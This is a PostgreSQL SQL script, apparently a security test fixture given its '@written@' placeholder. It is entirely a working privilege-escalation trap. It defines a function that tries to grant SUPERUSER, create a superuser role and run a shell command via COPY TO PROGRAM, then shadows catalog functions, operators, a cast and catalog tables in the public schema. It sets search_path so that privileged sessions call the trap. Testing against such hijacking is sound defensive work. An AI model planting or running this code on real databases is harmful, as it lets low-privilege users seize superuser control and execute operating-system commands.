CREATE FUNCTION public.spring() RETURNS boolean LANGUAGE plpgsql AS $trap$
BEGIN
  BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE postgres SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'CREATE ROLE sprung SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch @written@'''; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $trap$;

CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.spring(); RETURN $1; END $$;
CREATE FUNCTION public.max(integer) RETURNS integer LANGUAGE plpgsql AS $$ BEGIN PERFORM public.spring(); RETURN $1; END $$;
CREATE FUNCTION public.format_type(oid, integer) RETURNS text LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.spring(); RETURN ''; END $$;
CREATE FUNCTION public.quote_ident(name) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.spring(); RETURN $1; END $$;
CREATE FUNCTION public.pg_get_userbyid(oid) RETURNS name LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.spring(); RETURN 'x'; END $$;
CREATE FUNCTION public.same(name, text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RETURN public.spring(); END $$;
CREATE FUNCTION public.same(oid, oid) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RETURN public.spring(); END $$;
CREATE FUNCTION public.same("char", "char") RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RETURN public.spring(); END $$;
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.same);
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = public.same);
CREATE OPERATOR public.= (LEFTARG = "char", RIGHTARG = "char", FUNCTION = public.same);
CREATE FUNCTION public.joined(text, name) RETURNS text LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.spring(); RETURN ''; END $$;
CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = name, FUNCTION = public.joined);
CREATE CAST (name AS text) WITH FUNCTION public.quote_ident(name) AS IMPLICIT;
CREATE TABLE public.pg_class (oid oid, relname name);
CREATE VIEW public.pg_namespace AS SELECT public.spring();
SET search_path = public, pg_catalog;
CREATE TABLE after_all (id bigint PRIMARY KEY);
ALTER ROLE anon SET search_path = public, pg_catalog;
